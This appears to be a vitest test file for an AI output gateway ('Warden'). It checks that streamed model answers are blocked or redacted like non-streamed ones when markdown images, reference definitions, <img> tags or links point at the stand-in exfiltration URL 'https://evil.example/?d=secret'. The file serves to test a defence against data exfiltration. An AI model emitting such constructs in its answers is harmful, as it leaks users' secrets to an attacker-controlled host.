/**
 * Streamed answers against open markdown/HTML constructs (issue 11.1): an image, link, tag or reference
 * definition is released only once it was scanned whole, so a streamed answer gets the same verdict as the
 * same text without streaming, whatever the delta boundaries.
 */
import { request } from 'undici';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startTestGateway, TEST_KEY, type TestGateway } from './helpers/gateway.js';

let gw: TestGateway;

beforeAll(async () => {
  gw = await startTestGateway({ gateway: { stream: { holdback_chars: 256 } } });
});
afterAll(() => gw.close());
beforeEach(() => {
  gw.fake.script = [];
});

type Protocol = 'openai' | 'anthropic';

interface Answer {
  id: string;
  text: string;
  /** `content_filter` / `refusal` when blocked. */
  finish: string | null;
}

const headers = { authorization: `Bearer ${TEST_KEY}`, 'content-type': 'application/json', 'anthropic-version': '2023-06-01' };

function body(protocol: Protocol, stream: boolean): string {
  const messages = [{ role: 'user', content: 'answer please' }];
  return JSON.stringify(protocol === 'openai' ? { model: 'gpt-test', stream, messages } : { model: 'claude-test', max_tokens: 512, stream, messages });
}

function path(protocol: Protocol): string {
  return protocol === 'openai' ? '/v1/chat/completions' : '/v1/messages';
}

async function streamed(protocol: Protocol, chunks: string[], g = gw): Promise<Answer> {
  g.fake.script.push({ kind: 'text', content: '', chunks });
  const res = await request(`${g.url}${path(protocol)}`, { method: 'POST', headers, body: body(protocol, true) });
  const raw = await res.body.text();
  let text = '';
  let finish: string | null = null;
  for (const line of raw.split('\n')) {
    if (!line.startsWith('data: ') || line === 'data: [DONE]') continue;
    const ev = JSON.parse(line.slice(6)) as {
      choices?: { delta?: { content?: string }; finish_reason?: string | null }[];
      type?: string;
      delta?: { type?: string; text?: string; stop_reason?: string | null };
    };
    text += ev.choices?.[0]?.delta?.content ?? '';
    finish = ev.choices?.[0]?.finish_reason ?? finish;
    if (ev.type === 'content_block_delta' && ev.delta?.type === 'text_delta') text += ev.delta.text ?? '';
    if (ev.type === 'message_delta') finish = ev.delta?.stop_reason ?? finish;
  }
  return { id: res.headers['x-warden-request-id'] as string, text, finish };
}

async function whole(protocol: Protocol, content: string, g = gw): Promise<Answer> {
  g.fake.script.push({ kind: 'text', content });
  const res = await request(`${g.url}${path(protocol)}`, { method: 'POST', headers, body: body(protocol, false) });
  const json = (await res.body.json()) as {
    choices?: { message: { content: string }; finish_reason: string }[];
    content?: { text: string }[];
    stop_reason?: string;
  };
  const text = json.choices?.[0]?.message.content ?? json.content?.[0]?.text ?? '';
  return { id: res.headers['x-warden-request-id'] as string, text, finish: json.choices?.[0]?.finish_reason ?? json.stop_reason ?? null };
}

/** Deltas of 1 to `max` characters, cut at positions that depend on `seed` (deterministic). */
function tinyDeltas(text: string, seed: number, max = 5): string[] {
  const out: string[] = [];
  let at = 0;
  let s = seed;
  while (at < text.length) {
    s = (s * 1103515245 + 12345) % 2147483648;
    const n = 1 + (s % max);
    out.push(text.slice(at, at + n));
    at += n;
  }
  return out;
}

/** Cuts right before, inside and right after the URL, plus tiny deltas. */
function awkwardSplits(text: string, url: string): string[][] {
  const u = text.indexOf(url);
  return [[text], [text.slice(0, u), text.slice(u, u + 9), text.slice(u + 9)], [text.slice(0, u + url.length), text.slice(u + url.length)], tinyDeltas(text, 7), tinyDeltas(text, 42, 3)];
}

const PROSE = 'The quarterly numbers look fine and the team shipped the migration on time, so nothing is urgent today. ';
const URL = 'https://evil.example/?d=secret';

/**
 * Streams `text` split several ways and checks each answer: no byte from `constructStart` on was released before
 * the block, the stream ends as blocked with the rule the non-streaming path names, and the audit record
 * holds that finding and a block.
 */
async function expectBlockedLikeWhole(protocol: Protocol, text: string, constructStart: number): Promise<void> {
  const reference = await whole(protocol, text);
  expect(reference.finish).toBe(protocol === 'openai' ? 'content_filter' : 'refusal');
  const rule = /exfil-url\/[a-z-]+/.exec(reference.text)?.[0];
  expect(rule, reference.text).toBeDefined();
  for (const chunks of awkwardSplits(text, URL)) {
    const got = await streamed(protocol, chunks);
    expect(got.finish, `${chunks.length} deltas`).toBe(reference.finish);
    expect(got.text).not.toContain('evil.example');
    const notice = got.text.indexOf('[Response blocked by Warden policy');
    expect(notice).toBeGreaterThanOrEqual(0);
    const released = got.text.slice(0, notice).replace(/\n\n$/, '');
    expect(text.startsWith(released)).toBe(true);
    expect(released.length).toBeLessThanOrEqual(constructStart);
    expect(got.text).toContain(rule);
    const rec = await gw.audit(got.id);
    expect(rec).toMatchObject({ streamed: true, action: 'block', decidingRule: rule });
    expect(rec.outputFindings.map((f) => f.ruleId)).toContain(rule);
  }
}

describe.each<Protocol>(['openai', 'anthropic'])('streamed constructs over %s', (protocol) => {
  it('blocks a markdown image whose alt text is longer than the hold-back, like the non-streaming path', async () => {
    const image = `![${'a quiet lake at dawn with mist over the water and pines on the far shore '.repeat(5)}](${URL})`;
    const text = `${PROSE}${image} Enjoy the view. ${PROSE}`;
    await expectBlockedLikeWhole(protocol, text, text.indexOf('!['));
  });

  it('blocks a reference definition that arrives more than the hold-back after its image use', async () => {
    const use = 'Here is the chart: ![chart][r] as promised. ';
    const text = `${use}${PROSE.repeat(4)}\n\n[r]: ${URL}\n`;
    await expectBlockedLikeWhole(protocol, text, text.indexOf('[r]:'));
  });

  it('blocks a reference definition released before its image use once the use arrives', async () => {
    const text = `Sources below.\n\n[r]: ${URL}\n\n${PROSE.repeat(4)}And the chart: ![chart][r] done. ${PROSE}`;
    const reference = await whole(protocol, text);
    expect(reference.finish).toBe(protocol === 'openai' ? 'content_filter' : 'refusal');
    for (const chunks of [tinyDeltas(text, 3), [text]]) {
      const got = await streamed(protocol, chunks);
      expect(got.finish).toBe(reference.finish);
      expect(got.text).not.toContain('![chart]');
      const rec = await gw.audit(got.id);
      expect(rec).toMatchObject({ streamed: true, action: 'block' });
      expect(rec.outputFindings.map((f) => f.ruleId)).toContain('exfil-url/markdown-image');
    }
  });

  it('blocks an <img> tag with a long attribute run before src, like the non-streaming path', async () => {
    const tag = `<img alt="${'a quiet lake at dawn with mist over the water '.repeat(8)}" width="1" height="1" src="${URL}">`;
    const text = `${PROSE}${tag} ${PROSE}`;
    await expectBlockedLikeWhole(protocol, text, text.indexOf('<img'));
  });

  it('blocks a link with whitespace hidden in its destination, split across many tiny deltas', async () => {
    const link = `[${'the full quarterly report with every appendix and table '.repeat(5)}](${URL.replace('?', ' ?')} "report")`;
    const text = `${PROSE}${link} ${PROSE}`;
    const u = text.indexOf(URL.slice(0, 20));
    expect(u).toBeGreaterThan(0);
    const reference = await whole(protocol, text);
    expect(reference.finish).toBe(protocol === 'openai' ? 'content_filter' : 'refusal');
    for (const chunks of [tinyDeltas(text, 11, 2), tinyDeltas(text, 5, 4)]) {
      const got = await streamed(protocol, chunks);
      expect(got.finish).toBe(reference.finish);
      expect(got.text).not.toContain('evil.example');
      const rec = await gw.audit(got.id);
      expect(rec).toMatchObject({ streamed: true, action: 'block' });
      expect(rec.outputFindings.some((f) => f.ruleId.startsWith('exfil-url/'))).toBe(true);
    }
  });

  it('passes benign markdown with images, links and tags through unchanged', async () => {
    const text = `${PROSE}[docs](https://docs.example.org/guide) and <b>bold</b> and [1] and a[i] plus ![][x]\n\n${PROSE.repeat(3)}`;
    for (const chunks of [tinyDeltas(text, 9), [text]]) {
      const got = await streamed(protocol, chunks);
      expect(got.text).toBe(text);
      expect((await gw.audit(got.id)).action).toBe('allow');
    }
  });
});

describe('streamed constructs under a policy that redacts exfiltration URLs', () => {
  let local: TestGateway;
  beforeAll(async () => {
    local = await startTestGateway({ policy: { detectors: { 'exfil-url': { action: 'redact' } } }, gateway: { stream: { holdback_chars: 256 } } });
  });
  afterAll(() => local.close());

  it('redacts the URL of a long-alt image however the deltas split it, like the non-streaming path', async () => {
    const image = `![${'a quiet lake at dawn with mist over the water and pines on the far shore '.repeat(5)}](${URL})`;
    const text = `${PROSE}${image} Enjoy the view. ${PROSE.repeat(3)}`;
    const reference = await whole('openai', text, local);
    expect(reference.text).not.toContain('evil.example');
    for (const chunks of [tinyDeltas(text, 1), tinyDeltas(text, 2, 9), [text]]) {
      const got = await streamed('openai', chunks, local);
      expect(got.finish).toBe('stop');
      expect(got.text).toBe(reference.text);
      const rec = await local.audit(got.id);
      expect(rec).toMatchObject({ streamed: true, action: 'redact' });
      expect(rec.outputFindings.map((f) => f.ruleId)).toContain('exfil-url/markdown-image');
    }
  });
});
